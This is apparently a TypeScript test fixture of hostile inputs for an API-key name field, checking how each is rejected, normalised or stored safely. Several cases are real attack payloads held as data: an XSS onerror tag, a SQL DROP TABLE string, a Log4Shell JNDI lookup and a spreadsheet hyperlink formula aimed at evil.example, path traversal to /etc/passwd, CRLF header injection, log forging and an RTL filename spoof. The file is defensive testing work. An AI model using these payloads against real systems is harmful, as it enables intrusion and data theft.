import type { Attack } from '../attack';
import { creating, making } from '../requests';

const refused = (what: string, name: unknown, why: string): Attack => ({
  what,
  request: creating(JSON.stringify({ name })),
  status: 400,
  code: 'BAD_REQUEST',
  message: `Invalid input: name must ${why}`,
});
const tooShort = (what: string, name: string) => refused(what, name, 'be at least 3 characters');
const tooLong = (what: string, name: string) => refused(what, name, 'be at most 100 characters');
const noString = (what: string, name: unknown) => refused(what, name, 'be a string');
const unfit = (what: string, name: string) =>
  refused(
    what,
    name,
    'not hold control characters, line separators, bidirectional overrides or lone surrogates',
  );
/** Taken, and kept as it came unless said. */
const taken = (what: string, name: string, kept = name): Attack => ({
  what,
  request: creating(JSON.stringify({ name })),
  status: 200,
  calls: making,
  stored: [kept],
});

const lengths: readonly Attack[] = [
  tooShort('nothing', ''),
  tooShort('two letters', 'ab'),
  taken('three letters', 'abc'),
  taken('100 letters', 'a'.repeat(100)),
  tooLong('101 letters', 'a'.repeat(101)),
  tooLong('16,000 letters', 'a'.repeat(16_000)),
  tooShort('two emoji, which are four UTF-16 units', '😀😀'),
  taken('three emoji', '😀😀😀'),
  taken('100 emoji', '😀'.repeat(100)),
  tooLong('101 emoji', '😀'.repeat(101)),
  tooShort('two letters in four code points, before NFC', 'e\u0301e\u0301'),
  taken('100 letters in 200 code points, before NFC', 'e\u0301'.repeat(100), '\u00e9'.repeat(100)),
  taken('50 letters that NFC makes 100', '\u0958'.repeat(50), '\u0915\u093c'.repeat(50)),
  tooLong('51 letters that NFC makes 102', '\u0958'.repeat(51)),
];

const whiteSpace: readonly Attack[] = [
  tooShort('blanks', '   '),
  tooShort('two letters and blanks', ' ab '),
  tooShort('blanks that are not ASCII', '\u00a0\u2003\u3000\ufeff'),
  taken('blanks round it', '  Trimmed\t\n', 'Trimmed'),
  taken('blanks that are not ASCII round it', '\u00a0\u3000Trimmed too\u2003\ufeff', 'Trimmed too'),
  taken('a blank within', 'a b'),
  taken('100 letters and blanks round them', ` ${'b'.repeat(100)} `, 'b'.repeat(100)),
  unfit('a tab within', 'Tab\tbed'),
  unfit('a line separator within', 'Two\u2028lines'),
  unfit('a paragraph separator within', 'Two\u2029paragraphs'),
  unfit('the next-line control within', 'Next\u0085line'),
];

const controls: readonly Attack[] = [
  unfit('a NUL', 'Nul\u0000l'),
  unfit('an escape sequence for a terminal', 'Red \u001b[31malert'),
  unfit('a backspace', 'Safe\u0008\u0008\u0008\u0008Evil'),
  unfit('a delete', 'Del\u007fete'),
  unfit('a C1 control', 'Csi\u009b31m'),
  unfit('a log line of their own', 'Key"}\n{"level":"ERROR","message":"request.failed"}'),
  unfit('a carriage return and a header', 'Key\r\nSet-Cookie: a=b'),
  unfit('a right-to-left override', 'Key \u202egnp.exe'),
  unfit('an embedding', 'Key \u202bturned'),
  unfit('an isolate', 'Key \u2067turned\u2069'),
  unfit('a high surrogate alone', 'Half \ud83d'),
  unfit('a low surrogate alone', 'Half \ude00 of one'),
  unfit('surrogates the wrong way round', 'Half \ude00\ud83d'),
];

const scripts: readonly Attack[] = [
  taken('decomposed, and kept composed', 'Schlu\u0308ssel', 'Schl\u00fcssel'),
  taken('jamo, and kept as a syllable', '\u1112\u1161\u11ab\u1100\u1173\u11af key', '\ud55c\uae00 key'),
  taken('a ligature, which NFC leaves', '\ufb01nance'),
  taken('Cyrillic that looks Latin', '\u0420roduction \u041aey'),
  taken('right to left', 'مفتاح الإنتاج'),
  taken('a left-to-right mark', 'Key\u200e one'),
  taken('a zero-width space', 'Zero\u200bwidth'),
  taken('a family, joined', '👩‍👩‍👧'),
  taken('a flag of tags', '🏴󠁧󠁢󠁥󠁮󠁧󠁿 key'),
  taken('a skin tone', 'Key 👍🏽'),
  taken('marks upon marks', `Z${'\u0335\u0336\u0337'.repeat(20)}algo`),
];

const othersLanguages: readonly Attack[] = [
  taken('quotes and a brace', 'Key","level":"ERROR","x":"{'),
  taken('HTML', '<img src=x onerror=alert(1)>'),
  taken('SQL', "Robert'); DROP TABLE keys;--"),
  taken('a lookup for a log library', '$\u007bjndi:ldap://evil.example/a}'),
  taken('a condition of DynamoDB', 'attribute_not_exists(id) OR :x = :x'),
  taken('a formula', '=HYPERLINK("http://evil.example")'),
  taken('a path', '../../etc/passwd'),
  taken('a format', '%s%s%n %p'),
  taken('an inherited name', '__proto__'),
  taken('a word for nothing', 'null'),
];

const noStrings: readonly Attack[] = [
  noString('null', null),
  noString('a number', 12345),
  noString('true', true),
  noString('an array of a name', ['Listed']),
  noString('an object', { toString: 'Named' }),
  noString('an object with a length', { length: 50 }),
];

const duplicates: readonly Attack[] = [
  {
    ...taken('the name of a key that there is', 'Twin'),
    before: (setting) => [creating('{"name":"Twin"}')(setting)],
    status: 409,
    code: 'CONFLICT',
    message: 'An API key named "Twin" already exists',
    calls: ['POST /api_keys', 'GET /api_keys', 'GetItem'],
    stored: [],
  },
  {
    ...taken('the name of a key that there is, decomposed and with blanks', ' Zwillingsschlu\u0308ssel '),
    before: (setting) => [creating('{"name":"Zwillingsschlüssel"}')(setting)],
    status: 409,
    code: 'CONFLICT',
    message: 'An API key named "Zwillingsschl\u00fcssel" already exists',
    calls: ['POST /api_keys', 'GET /api_keys', 'GetItem'],
    stored: [],
  },
];

export const names = {
  lengths,
  whiteSpace,
  controls,
  scripts,
  othersLanguages,
  noStrings,
  duplicates,
};
